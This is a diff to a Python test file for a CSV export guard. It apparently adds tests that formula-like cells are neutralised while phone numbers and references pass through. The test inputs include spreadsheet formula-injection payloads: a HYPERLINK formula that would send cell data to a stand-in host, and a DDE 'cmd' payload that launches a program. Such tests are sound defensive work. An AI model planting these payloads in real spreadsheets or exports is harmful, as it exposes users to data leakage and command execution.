@@ -194,9 +194,22 @@ def test_a_cell_that_a_spreadsheet_would_run_is_guarded(start: str) -> None:
     assert list(csv.reader(io.StringIO(_csv(start), newline="")))[1][0] == f"'{start}"
 
 
+@pytest.mark.parametrize("column", ["phone", "phones", "reach", "ref"])
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://x.example?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+A1", "\t=1"]
+)
+def test_a_formula_is_guarded_where_a_phone_or_a_reference_is_expected(column: str, cell: str) -> None:
+    assert guarded(column, cell) == f"'{cell}"
+
+
 def test_phones_numbers_and_references_are_not_guarded() -> None:
-    assert guarded("phone", "+44 20") == "+44 20"
+    for phone in ("+44 20", "+44 (0)20/7946-09.58 x12", "+1 212 ext. 4"):
+        for column in ("phone", "phones", "reach"):
+            assert guarded(column, phone) == phone
+    assert guarded("phones", "+44 20, +49 30") == "+44 20, +49 30"
+    assert guarded("text", "+44 20") == "'+44 20"
     assert guarded("ref", "@acme") == "@acme"
+    assert guarded("ref", "n@acme") == "n@acme"
     assert guarded("amount", -5) == -5
 
 
